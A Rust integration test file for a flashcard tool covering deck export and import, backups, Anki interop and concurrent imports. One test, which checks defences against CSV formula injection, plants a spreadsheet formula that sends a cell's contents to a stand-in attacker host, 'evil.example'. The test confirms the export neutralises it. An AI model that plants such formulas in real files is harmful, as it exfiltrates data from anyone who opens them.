//! Deck exchange through the real binary: export in every format, import packages and tables
//! into a temporary data folder, backups, and the Anki interop check with the real Anki library.

use assert_cmd::Command;
use predicates::prelude::*;
use std::path::{Path, PathBuf};

use super::{copy_dir, steppe};

fn claims_json(path: &Path) -> serde_json::Value {
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    doc["claims"].clone()
}

fn export(data: &Path, format: &str, deck: Option<&Path>, out: &Path) {
    let mut cmd = steppe(data);
    cmd.args(["export", "--format", format, "--out"]).arg(out);
    if let Some(deck) = deck {
        cmd.arg("--deck").arg(deck);
    }
    cmd.assert().success().stderr(predicate::str::contains("wrote"));
}

/// A copy of the built-in deck in `dir/deck` with `version` and one claim's text edited.
fn edited_deck(dir: &Path, version: &str, edit: bool) -> PathBuf {
    let deck = dir.join(format!("deck-{version}"));
    copy_dir(Path::new("content"), &deck);
    let toml = deck.join("deck.toml");
    let text =
        std::fs::read_to_string(&toml).unwrap().replace("version = \"1.0.0\"", &format!("version = \"{version}\""));
    std::fs::write(&toml, text).unwrap();
    if edit {
        let claims = deck.join("claims/001-breakthrough-2015.toml");
        let text = std::fs::read_to_string(&claims).unwrap().replacen("\ntext = \"", "\ntext = \"In 2015, ", 1);
        std::fs::write(&claims, text).unwrap();
    }
    deck
}

#[test]
fn every_format_exports_the_builtin_deck() {
    let tmp = tempfile::tempdir().unwrap();
    for format in ["json", "steppe", "apkg", "csv"] {
        let out = tmp.path().join(format!("deck.{format}"));
        export(tmp.path(), format, None, &out);
        assert!(std::fs::metadata(&out).unwrap().len() > 10_000, "{format} export has the deck in it");
    }
    let csv = std::fs::read_to_string(tmp.path().join("deck.csv")).unwrap();
    assert!(csv.starts_with("\u{feff}#separator:comma\n#html:false\n#notetype:Cloze\n#deck:mongolia-koreas\n"));
    assert!(csv.contains("\nbt-middle-road,"), "rows start with the claim id");
}

#[test]
fn binary_export_without_out_is_a_usage_error() {
    let tmp = tempfile::tempdir().unwrap();
    steppe(tmp.path()).args(["export", "--format", "apkg"]).assert().code(2).stderr(predicate::str::contains("--out"));
    steppe(tmp.path()).args(["export", "--format", "pdf"]).assert().code(2);
}

#[test]
fn build_compiles_a_folder_to_json_or_a_package() {
    let tmp = tempfile::tempdir().unwrap();
    let json = tmp.path().join("deck.json");
    steppe(tmp.path()).args(["build", "content", "--out"]).arg(&json).assert().success();
    assert_eq!(claims_json(&json).as_array().unwrap().len(), builtin_claims());
    let package = tmp.path().join("deck.steppe");
    steppe(tmp.path()).args(["build", "content", "--format", "steppe", "--out"]).arg(&package).assert().success();
    steppe(tmp.path()).arg("import").arg(&package).assert().success();
    assert!(tmp.path().join("decks/mongolia-koreas/deck.toml").exists());
}

#[test]
fn build_of_an_invalid_deck_exits_1_and_writes_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let deck = tmp.path().join("deck");
    copy_dir(Path::new("content"), &deck);
    std::fs::remove_file(deck.join("readings/001-breakthrough-2015.md")).unwrap();
    let out = tmp.path().join("deck.steppe");
    steppe(tmp.path()).arg("build").arg(&deck).args(["--format", "steppe", "--out"]).arg(&out).assert().code(1);
    assert!(!out.exists());
}

#[test]
fn import_installs_a_package_and_a_newer_version_replaces_it_reporting_changes() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let v1 = tmp.path().join("v1.steppe");
    let v2 = tmp.path().join("v2.steppe");
    export(&data, "steppe", None, &v1);
    export(&data, "steppe", Some(&edited_deck(tmp.path(), "1.1.0", true)), &v2);

    steppe(&data)
        .arg("import")
        .arg(&v1)
        .assert()
        .success()
        .stdout(predicate::str::contains("imported `mongolia-koreas` 1.0.0"))
        .stdout(predicate::str::contains(format!("claims: {} added, 0 removed, 0 changed", builtin_claims())));
    let installed = data.join("decks/mongolia-koreas");
    steppe(&data).arg("check").arg(&installed).assert().success();

    steppe(&data)
        .arg("import")
        .arg(&v2)
        .assert()
        .success()
        .stdout(predicate::str::contains("updated `mongolia-koreas` from 1.0.0 to 1.1.0"))
        .stdout(predicate::str::contains("claims: 0 added, 0 removed, 1 changed"))
        .stdout(predicate::str::contains("changed: bt-middle-road"));
    assert!(std::fs::read_to_string(installed.join("deck.toml")).unwrap().contains("version = \"1.1.0\""));

    steppe(&data)
        .arg("import")
        .arg(&v1)
        .assert()
        .code(1)
        .stderr(predicate::str::contains("older than the installed version 1.1.0"));
    assert!(std::fs::read_to_string(installed.join("deck.toml")).unwrap().contains("version = \"1.1.0\""));
    steppe(&data).arg("import").arg(&v1).arg("--force").assert().success();
    assert!(std::fs::read_to_string(installed.join("deck.toml")).unwrap().contains("version = \"1.0.0\""));
    let leftovers: Vec<_> = std::fs::read_dir(data.join("decks")).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(leftovers, vec!["mongolia-koreas"], "no staging or replaced folders are left behind");
}

#[test]
fn csv_round_trip_gives_the_same_claims() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let table = tmp.path().join("deck.csv");
    export(&data, "csv", None, &table);
    steppe(&data).arg("import").arg(&table).assert().success().stdout(predicate::str::contains("0 changed"));

    let before = tmp.path().join("before.json");
    let after = tmp.path().join("after.json");
    export(&data, "json", None, &before);
    export(&data, "json", Some(&data.join("decks/mongolia-koreas")), &after);
    assert_eq!(claims_json(&before), claims_json(&after));

    // An edit made in the table comes back as a changed claim.
    let text = std::fs::read_to_string(&table).unwrap();
    let edited = text.replacen("middle road between North and South Korea.", "middle road between the two Koreas.", 1);
    assert_ne!(edited, text);
    std::fs::write(&table, edited).unwrap();
    steppe(&data)
        .arg("import")
        .arg(&table)
        .assert()
        .success()
        .stdout(predicate::str::contains("1 changed"))
        .stdout(predicate::str::contains("changed: bt-middle-road"));
    let claims = std::fs::read_to_string(data.join("decks/mongolia-koreas/claims/001-breakthrough-2015.toml")).unwrap();
    assert!(claims.contains("middle road between the two Koreas."));
}

#[test]
fn backup_then_restore_lists_and_restores_keeping_a_safety_copy() {
    let data = tempfile::tempdir().unwrap();
    steppe(data.path()).arg("restore").assert().success().stdout(predicate::str::contains("no backups"));
    steppe(data.path()).arg("backup").assert().success().stdout(predicate::str::contains("backup written"));
    let listed = steppe(data.path()).arg("restore").assert().success().get_output().stdout.clone();
    let listed = String::from_utf8(listed).unwrap();
    // The day's backup may be listed too: opening an existing database makes it in the background.
    let names: Vec<&str> = listed.lines().map(|l| l.split('\t').next().unwrap()).collect();
    let name =
        names.iter().find(|n| n.ends_with("-manual.sqlite.zst")).unwrap_or_else(|| panic!("{listed}")).to_string();
    steppe(data.path()).args(["restore", &name]).assert().success().stdout(predicate::str::contains("restored"));
    let names: Vec<String> = std::fs::read_dir(data.path().join("backups"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.iter().any(|n| n.contains("before-restore")), "{names:?}");
    steppe(data.path())
        .args(["restore", "no-such.sqlite"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("not found"));
}

#[test]
fn every_subcommand_has_help() {
    let tmp = tempfile::tempdir().unwrap();
    for command in
        ["check", "cards", "build", "export", "import", "stats", "optimize", "backup", "restore", "card", "quiz"]
    {
        steppe(tmp.path()).args([command, "--help"]).assert().success().stdout(predicate::str::contains("Usage:"));
    }
}

/// Imports two exports of the deck into a fresh collection with the real Anki library
/// (installed by `make venv`); see tests/anki/import_apkg.py for what it checks.
#[test]
fn anki_imports_the_apkg_and_a_re_export_updates_its_notes() {
    let python = Path::new(".venv/bin/python");
    assert!(python.exists(), "the Anki library is missing: run `make venv`");
    let tmp = tempfile::tempdir().unwrap();
    let (a_apkg, a_json) = (tmp.path().join("a.apkg"), tmp.path().join("a.json"));
    let (b_apkg, b_json) = (tmp.path().join("b.apkg"), tmp.path().join("b.json"));
    export(tmp.path(), "apkg", None, &a_apkg);
    export(tmp.path(), "json", None, &a_json);
    // Anki updates a note only when the incoming one is newer; note times have one-second steps.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let edited = edited_deck(tmp.path(), "1.1.0", true);
    export(tmp.path(), "apkg", Some(&edited), &b_apkg);
    export(tmp.path(), "json", Some(&edited), &b_json);
    Command::new(python)
        .arg("tests/anki/import_apkg.py")
        .args([&a_apkg, &a_json, &b_apkg, &b_json])
        .assert()
        .success()
        .stdout(predicate::str::contains(format!(
            "anki 26.09.3: {n} Basic and {n} Cloze notes imported",
            n = builtin_claims()
        )));
}

/// Imports the .csv export into a fresh collection with the real Anki library, with its import
/// screen's defaults: it reads the header lines (comma separator, columns, Cloze note type, deck,
/// guid and tags columns) and makes one cloze note per claim, the answer as the gap and the quote
/// and citation on the back; see tests/anki/import_csv.py.
#[test]
fn anki_imports_the_comma_separated_csv_export_as_cloze_notes() {
    let python = Path::new(".venv/bin/python");
    assert!(python.exists(), "the Anki library is missing: run `make venv`");
    let tmp = tempfile::tempdir().unwrap();
    let (csv, json) = (tmp.path().join("deck.csv"), tmp.path().join("deck.json"));
    export(tmp.path(), "csv", None, &csv);
    export(tmp.path(), "json", None, &json);
    Command::new(python).arg("tests/anki/import_csv.py").args([&csv, &json]).assert().success().stdout(
        predicate::str::contains(format!(
            "anki 26.09.3: {} cloze notes imported from the comma-separated table",
            builtin_claims()
        )),
    );
}

/// Answers cards in a real study database over three weeks (review, learning and relearning
/// cards), exports with --with-progress and imports the result into Anki with scheduling: every
/// card arrives in Anki as it stands in Steppe (phase, reps, lapses, interval, due day), card by
/// card; see tests/anki/import_progress.py.
#[test]
fn anki_imports_progress_with_the_apkg_card_by_card() {
    use std::sync::Arc;
    use steppe::schedule::{Phase, Rating};
    let python = Path::new(".venv/bin/python");
    assert!(python.exists(), "the Anki library is missing: run `make venv`");
    let data = tempfile::tempdir().unwrap();
    let now = chrono::Local::now().fixed_offset();
    let clock = Arc::new(steppe::clock::FixedClock::new(now - chrono::Duration::days(21)));
    let expected = {
        let deck = steppe::content::Deck::builtin().unwrap();
        // The kinds an .apkg carries: a cloze and a question card per claim.
        let exported: Vec<_> = steppe::cards::generate(&deck)
            .into_iter()
            .map(|card| card.id)
            .filter(|id| id.0.ends_with(":cloze") || id.0.ends_with(":qa"))
            .take(13)
            .collect();
        let mut collection = steppe::Collection::open(data.path(), deck, Box::new(clock.clone())).unwrap();
        // Day 0: twelve cards answered Easy (review cards), then one Again (learning, left so).
        let easy = &exported[..12];
        for id in easy {
            collection.answer(id, Rating::Easy).unwrap();
        }
        collection.answer(&exported[12], Rating::Again).unwrap();
        // Three weeks later the reviewed cards are due: one lapses (relearning), one is answered
        // Good (a longer interval).
        clock.advance(chrono::Duration::days(21));
        collection.answer(&easy[0], Rating::Again).unwrap();
        collection.answer(&easy[1], Rating::Good).unwrap();
        let day = 86_400;
        let today = now.timestamp();
        let mut phases = std::collections::BTreeSet::new();
        let lines: Vec<String> = collection
            .stored_states()
            .unwrap()
            .into_iter()
            .filter(|(_, state)| state.phase != Phase::New)
            .map(|(id, state)| {
                phases.insert(format!("{:?}", state.phase));
                let due = state.due.expect("a studied card is due some time");
                let ivl = state.last_review.map_or(0, |last| ((due - last) as f64 / day as f64).round() as i64);
                let days = (due - today).div_euclid(day);
                format!("{}\t{:?}\t{}\t{}\t{}\t{}\t{}", id.0, state.phase, state.reps, state.lapses, ivl, days, due)
            })
            .collect();
        assert_eq!(phases.len(), 3, "review, learning and relearning cards: {phases:?}");
        lines
    };
    let apkg = data.path().join("progress.apkg");
    steppe(data.path())
        .args(["export", "--format", "apkg", "--with-progress", "--out"])
        .arg(&apkg)
        .assert()
        .success()
        .stderr(predicate::str::contains("with progress"));
    let expected_file = data.path().join("expected.tsv");
    std::fs::write(&expected_file, expected.join("\n")).unwrap();
    Command::new(python)
        .arg("tests/anki/import_progress.py")
        .arg(&apkg)
        .arg(&expected_file)
        .assert()
        .success()
        .stdout(predicate::str::contains(format!("{} studied cards imported as they stand", expected.len())));
}

/// How many claims the built-in deck has.
fn builtin_claims() -> usize {
    steppe::content::Deck::builtin().unwrap().claims.len()
}

#[test]
fn a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_read_back_whole() {
    let tmp = tempfile::tempdir().unwrap();
    let deck = tmp.path().join("deck");
    copy_dir(Path::new("content"), &deck);
    let claims = deck.join("claims/001-breakthrough-2015.toml");
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click") "#;
    let edited = std::fs::read_to_string(&claims).unwrap().replacen(
        "\ntext = \"",
        &format!("\ntext = \"{}", formula.replace('"', "\\\"")),
        1,
    );
    std::fs::write(&claims, edited).unwrap();
    let data = tmp.path().join("data");
    let table = tmp.path().join("deck.csv");
    export(&data, "csv", Some(&deck), &table);

    // Read as a spreadsheet or any CSV reader would: no cell starts a formula.
    let text = std::fs::read_to_string(&table).unwrap();
    let body: String =
        text.lines().filter(|l| !l.trim_start_matches('\u{feff}').starts_with('#')).map(|l| format!("{l}\n")).collect();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(body.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(record.unwrap().iter().map(str::to_owned));
    }
    assert!(cells.len() > 1000, "the table was read: {} cells", cells.len());
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell}");
    }
    assert!(cells.iter().any(|c| c.starts_with(&format!("'{formula}"))), "the formula is kept as text");

    // Imported again, the text is the claim's own.
    let before = tmp.path().join("before.json");
    export(&data, "json", Some(&deck), &before);
    steppe(&data).arg("import").arg(&table).assert().success();
    let after = tmp.path().join("after.json");
    export(&data, "json", Some(&data.join("decks/mongolia-koreas")), &after);
    assert_eq!(claims_json(&before), claims_json(&after));
    assert!(claims_json(&after).to_string().contains("=HYPERLINK"), "the formula's words are the claim's text");
}

#[test]
fn two_imports_at_once_install_one_after_the_other_and_never_go_back_a_version() {
    let tmp = tempfile::tempdir().unwrap();
    let (v1, v2) = (tmp.path().join("v1.steppe"), tmp.path().join("v2.steppe"));
    let scratch = tmp.path().join("scratch");
    export(&scratch, "steppe", Some(&edited_deck(tmp.path(), "1.0.0", false)), &v1);
    export(&scratch, "steppe", Some(&edited_deck(tmp.path(), "1.1.0", true)), &v2);
    let bin = assert_cmd::cargo::cargo_bin("steppe");
    for round in 0..6 {
        // Both at once, the older one started first or second.
        let order = if round % 2 == 0 { [&v1, &v2] } else { [&v2, &v1] };
        let spawned: Vec<_> = order
            .iter()
            .map(|file| {
                std::process::Command::new(&bin)
                    .arg("import")
                    .arg(file)
                    .env("STEPPE_DATA_DIR", tmp.path().join(format!("both-{round}")))
                    .env("NO_COLOR", "1")
                    .stdout(std::process::Stdio::piped())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        let outputs: Vec<_> = spawned.into_iter().map(|c| c.wait_with_output().unwrap()).collect();
        for output in &outputs {
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert!(
                output.status.success() || stderr.contains("is older than the installed"),
                "round {round}: an import failed for another reason: {stderr}"
            );
        }
        let installed = tmp.path().join(format!("both-{round}/decks/mongolia-koreas/deck.toml"));
        let toml = std::fs::read_to_string(installed).unwrap();
        assert!(toml.contains("version = \"1.1.0\""), "round {round}: the newer version stays installed");
    }
}
